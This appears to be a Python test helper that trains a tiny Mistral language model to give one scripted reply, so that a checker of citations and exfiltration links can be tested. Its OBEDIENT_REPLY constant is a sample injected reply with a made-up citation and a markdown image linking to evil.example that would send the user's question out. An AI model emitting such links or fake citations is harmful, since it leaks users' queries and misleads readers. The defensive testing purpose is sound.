"""A tiny causal LM that has learnt to write one given reply to any chat prompt, saved like a real checkpoint.

Random tiny models write random bytes, which exercise loading, chat templates and streaming but never a
citation, a bad citation or an exfiltration link. This one is *trained* (a few seconds of Adam) to answer every
prompt with ``script``, so the real transformers path — ``from_pretrained``, ``apply_chat_template``,
``generate``, ``TextIteratorStreamer`` — produces text whose checking we can assert on. It is a Mistral with a
24-token sliding attention window, so what it writes depends only on the assistant tag and its own last tokens:
it learns on short prompts and repeats itself exactly after prompts of any length.
"""

from __future__ import annotations

import random
from pathlib import Path

from tiny_lm import build_tokenizer

#: A reply that obeys a prompt injection: a supported claim, a citation to evidence that does not exist, and
#: the classic exfiltration image whose URL would carry the question out.
OBEDIENT_REPLY = "PWNED: the model reads 7 papers [1]. ![x](http://evil.example/?q=QUESTION) See [9]."

_WORDS = "the of model data paper table figure results we show evidence question answer page".split()


def _prompt(tokenizer, rng: random.Random) -> str:
    body = " ".join(rng.choice(_WORDS) for _ in range(rng.randint(5, 40)))
    messages = [{"role": "system", "content": "rules " + body[:40]}, {"role": "user", "content": body}]
    return tokenizer.apply_chat_template(messages, add_generation_prompt=True, tokenize=False)


def build_scripted_lm(directory: Path, script: str, *, seed: int = 0, max_steps: int = 400) -> Path:
    """Train until the greedy reply is ``script`` (loss < 0.01), save model + tokenizer to ``directory``."""
    import torch
    from transformers import MistralConfig, MistralForCausalLM

    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    tokenizer = build_tokenizer()
    config = MistralConfig(
        vocab_size=len(tokenizer),
        hidden_size=64,
        intermediate_size=128,
        num_hidden_layers=2,
        num_attention_heads=4,
        num_key_value_heads=2,
        max_position_embeddings=32768,
        sliding_window=24,
        bos_token_id=tokenizer.convert_tokens_to_ids("<|endoftext|>"),
        eos_token_id=tokenizer.eos_token_id,
        pad_token_id=tokenizer.pad_token_id,
    )
    torch.manual_seed(seed)
    rng = random.Random(seed)
    model = MistralForCausalLM(config)
    target = tokenizer(script + tokenizer.eos_token, add_special_tokens=False)["input_ids"]
    optimiser = torch.optim.Adam(model.parameters(), lr=1e-2)
    for _ in range(max_steps):
        prompt = tokenizer(_prompt(tokenizer, rng), add_special_tokens=False)["input_ids"]
        ids = torch.tensor([prompt + target])
        labels = ids.clone()
        labels[0, : len(prompt)] = -100  # learn the reply only
        loss = model(input_ids=ids, labels=labels).loss
        optimiser.zero_grad()
        loss.backward()
        optimiser.step()
        if loss.item() < 0.01:
            break
    model.eval()
    model.generation_config.eos_token_id = tokenizer.eos_token_id
    model.generation_config.pad_token_id = tokenizer.pad_token_id
    model.save_pretrained(directory)
    tokenizer.save_pretrained(directory)
    return directory


def scripted_lm_in(base: Path, script: str) -> Path:
    """The scripted model for ``script`` under ``base`` (a session's temp root), trained once per test session
    however many modules ask for it."""
    import hashlib

    folder = Path(base) / f"scripted-lm-{hashlib.sha256(script.encode()).hexdigest()[:12]}"
    if not (folder / "config.json").is_file():
        build_scripted_lm(folder, script)
    return folder
